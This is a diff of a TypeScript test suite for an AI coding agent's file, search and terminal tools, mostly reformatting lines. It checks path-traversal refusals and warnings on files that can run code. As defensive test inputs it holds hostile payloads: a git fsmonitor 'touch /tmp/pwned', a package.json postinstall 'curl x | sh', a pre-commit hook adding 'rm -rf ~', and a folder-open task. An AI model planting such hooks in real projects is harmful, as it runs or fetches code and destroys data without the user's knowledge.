@@ -39,7 +39,7 @@ async function rejectsWith(work: Promise<unknown>, reason: ToolError['reason'], 
 describe('agent tools: definitions', () => {
   const all = [...readToolDefinitions, ...changeToolDefinitions];
 
-  it('use the spec\'s tool shape: object parameters, each property with type and description, required names that exist', () => {
+  it("use the spec's tool shape: object parameters, each property with type and description, required names that exist", () => {
     for (const definition of all) {
       const parameters = definition.parameters as { type: string; properties: Record<string, { type: string; description: string }>; required: string[] };
       assert.equal(parameters.type, 'object', definition.name);
@@ -53,7 +53,8 @@ describe('agent tools: definitions', () => {
   });
 
   it('stay lean: all eleven schemas and the system prompt under 1,000 tokens', () => {
-    const tokens = estimateTokens(JSON.stringify(all.map((definition) => ({ type: 'function', function: definition })))) + estimateTokens(agentSystemPrompt(true));
+    const tokens =
+      estimateTokens(JSON.stringify(all.map((definition) => ({ type: 'function', function: definition })))) + estimateTokens(agentSystemPrompt(true));
     assert.ok(tokens < 1000, `${tokens} tokens`);
     assert.equal(all.length, 11);
   });
@@ -103,9 +104,16 @@ describe('agent tools: workspace paths', () => {
 
   it('refuses everything outside the folders, and any path without a folder', () => {
     for (const path of ['../secret', 'src/../../secret', '/etc/passwd', '/work/application/x', '/work']) {
-      assert.throws(() => resolveWorkspacePath(path, folders, posix), (error: unknown) => ToolError.is(error, 'outsideWorkspace'), path);
+      assert.throws(
+        () => resolveWorkspacePath(path, folders, posix),
+        (error: unknown) => ToolError.is(error, 'outsideWorkspace'),
+        path,
+      );
     }
-    assert.throws(() => resolveWorkspacePath('a.ts', [], posix), (error: unknown) => ToolError.is(error, 'outsideWorkspace'));
+    assert.throws(
+      () => resolveWorkspacePath('a.ts', [], posix),
+      (error: unknown) => ToolError.is(error, 'outsideWorkspace'),
+    );
   });
 });
 
@@ -113,7 +121,13 @@ describe('agent tools: text search and results', () => {
   it('matches with smart case, as a regex when asked, and reports more past the limit', () => {
     const out: TextMatch[] = [];
     assert.equal(collectMatches('a.ts', 'Alpha\nalpha\nBETA\r\nbeta', lineMatcher({ text: 'alpha', isRegex: false }), 10, out), true);
-    assert.deepEqual(out.map((match) => [match.line, match.text]), [[1, 'Alpha'], [2, 'alpha']]);
+    assert.deepEqual(
+      out.map((match) => [match.line, match.text]),
+      [
+        [1, 'Alpha'],
+        [2, 'alpha'],
+      ],
+    );
     assert.equal(lineMatcher({ text: 'Alpha', isRegex: false })('alpha'), false);
     assert.equal(lineMatcher({ text: '^be.a$', isRegex: true })('BETA'), true);
     const few: TextMatch[] = [];
@@ -204,7 +218,10 @@ describe('agent tools: reading functions', () => {
     assert.equal(await readTool(port, 'find_files').run({ glob: '**/*.ts' }, context()), 'src/a.ts\nsrc/deep/b.ts');
     assert.equal(await readTool(port, 'find_files').run({ glob: '*.md' }, context()), 'No files match.');
     assert.equal(await readTool(port, 'get_symbols').run({ path: 'src/deep/b.ts' }, context()), 'src/deep/b.ts:\n  function b (lines 1-1)');
-    assert.equal(await readTool(port, 'get_selection').run({}, context()), 'Active editor: src/a.ts (typescript)\nSelection 1:1-1:5:\nthe \nOpen editors: src/a.ts');
+    assert.equal(
+      await readTool(port, 'get_selection').run({}, context()),
+      'Active editor: src/a.ts (typescript)\nSelection 1:1-1:5:\nthe \nOpen editors: src/a.ts',
+    );
     assert.match(await readTool(port, 'semantic_search').run({ query: 'export' }, context()), /^\[1\] src\/deep\/b\.ts:1-2\nexport function b/);
     await rejectsWith(readTool(port, 'search_text').run({ query: '(', regex: true }, context()), 'invalid', /not a regular expression this search supports/);
     await rejectsWith(readTool(port, 'search_text').run({ query: '(a)\\1', regex: true }, context()), 'invalid', /RE2 syntax: no backreferences or lookaround/);
@@ -256,21 +273,61 @@ describe('agent tools: changing functions', () => {
     assert.deepEqual(run.preview, { kind: 'terminal', command, cwd: 'src', timeoutSeconds: 30 });
     assert.equal(await run.apply(new AbortController().signal), `$ ${command}\nExit code 0.\nok`);
     assert.deepEqual(port.commands, [{ command, cwd: 'src' }]);
-    assert.equal(commandReport('sleep 9', { exitCode: null, output: 'partial', timedOut: true, droppedChars: 1200 }, 5), '$ sleep 9\nStopped after 5 s (the time limit).\npartial\n[1,200 more characters of output were not kept.]');
+    assert.equal(
+      commandReport('sleep 9', { exitCode: null, output: 'partial', timedOut: true, droppedChars: 1200 }, 5),
+      '$ sleep 9\nStopped after 5 s (the time limit).\npartial\n[1,200 more characters of output were not kept.]',
+    );
   });
 });
 
 describe('agent tools: files that can run code or change the editor', () => {
   it('names git, editor, hook, dev container and package-script files, whatever the case or a multi-root prefix, and no ordinary file', () => {
     const sensitive = [
-      '.git/config', '.git/hooks/pre-commit', 'app/.git/config', 'root-a/.GIT/hooks/post-checkout', '.git./config', '.gitmodules', '.gitattributes',
-      '.husky/pre-commit', '.githooks/pre-push', '.vscode/tasks.json', '.vscode/settings.json', '.vscode/launch.json', '.vscode/extensions.json',
-      'team.code-workspace', '.devcontainer/devcontainer.json', 'package.json', 'packages/web/package.json', '.npmrc', '.yarnrc.yml',
-      'pyproject.toml', 'setup.py', 'Makefile', 'Cargo.toml', 'build.rs', 'pom.xml', 'build.gradle.kts', 'Gemfile', 'composer.json', '.envrc',
-      '.pre-commit-config.yaml', 'src\\.vscode\\settings.json', '.git:stream/config',
+      '.git/config',
+      '.git/hooks/pre-commit',
+      'app/.git/config',
+      'root-a/.GIT/hooks/post-checkout',
+      '.git./config',
+      '.gitmodules',
+      '.gitattributes',
+      '.husky/pre-commit',
+      '.githooks/pre-push',
+      '.vscode/tasks.json',
+      '.vscode/settings.json',
+      '.vscode/launch.json',
+      '.vscode/extensions.json',
+      'team.code-workspace',
+      '.devcontainer/devcontainer.json',
+      'package.json',
+      'packages/web/package.json',
+      '.npmrc',
+      '.yarnrc.yml',
+      'pyproject.toml',
+      'setup.py',
+      'Makefile',
+      'Cargo.toml',
+      'build.rs',
+      'pom.xml',
+      'build.gradle.kts',
+      'Gemfile',
+      'composer.json',
+      '.envrc',
+      '.pre-commit-config.yaml',
+      'src\\.vscode\\settings.json',
+      '.git:stream/config',
     ];
     for (const path of sensitive) assert.ok(sensitivePathReason(path), path);
-    const ordinary = ['src/greeting.ts', 'README.md', 'docs/git.md', 'src/gitignore.ts', 'vscode/notes.md', 'package-lock.json.md', 'src/package.ts', 'my.git/file.ts', ''];
+    const ordinary = [
+      'src/greeting.ts',
+      'README.md',
+      'docs/git.md',
+      'src/gitignore.ts',
+      'vscode/notes.md',
+      'package-lock.json.md',
+      'src/package.ts',
+      'my.git/file.ts',
+      '',
+    ];
     for (const path of ordinary) assert.equal(sensitivePathReason(path), undefined, path);
     assert.match(sensitivePathReason('.git/config') ?? '', /fsmonitor/);
     assert.match(sensitivePathReason('.vscode/tasks.json') ?? '', /tasks/);
@@ -283,13 +340,13 @@ describe('agent tools: files that can run code or change the editor', () => {
     const edit = changeTool(port, 'edit_file');
     const create = changeTool(port, 'create_file');
     const config = await edit.prepare({ path: '.git/config', old_text: '[core]', new_text: '[core]\n\tfsmonitor = "touch /tmp/pwned"' }, context());
-    assert.match(config.preview.kind === 'edit' ? config.preview.caution ?? '' : '', /fsmonitor/);
+    assert.match(config.preview.kind === 'edit' ? (config.preview.caution ?? '') : '', /fsmonitor/);
     const manifest = await edit.prepare({ path: 'package.json', old_text: '{}', new_text: '{"postinstall":"curl x | sh"}' }, context());
-    assert.match(manifest.preview.kind === 'edit' ? manifest.preview.caution ?? '' : '', /scripts/);
+    assert.match(manifest.preview.kind === 'edit' ? (manifest.preview.caution ?? '') : '', /scripts/);
     const tasks = await create.prepare({ path: '.vscode/tasks.json', content: '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' }, context());
-    assert.match(tasks.preview.kind === 'create' ? tasks.preview.caution ?? '' : '', /tasks/);
+    assert.match(tasks.preview.kind === 'create' ? (tasks.preview.caution ?? '') : '', /tasks/);
     const viaLink = await edit.prepare({ path: 'hooks/pre-commit', old_text: '#!/bin/sh', new_text: '#!/bin/sh\nrm -rf ~' }, context());
-    assert.match(viaLink.preview.kind === 'edit' ? viaLink.preview.caution ?? '' : '', /hooks/);
+    assert.match(viaLink.preview.kind === 'edit' ? (viaLink.preview.caution ?? '') : '', /hooks/);
     const ordinary = await edit.prepare({ path: 'src/a.ts', old_text: 'x', new_text: 'y' }, context());
     assert.equal(ordinary.preview.kind === 'edit' ? ordinary.preview.caution : 'not an edit', undefined);
     const created = await create.prepare({ path: 'src/b.ts', content: 'b' }, context());
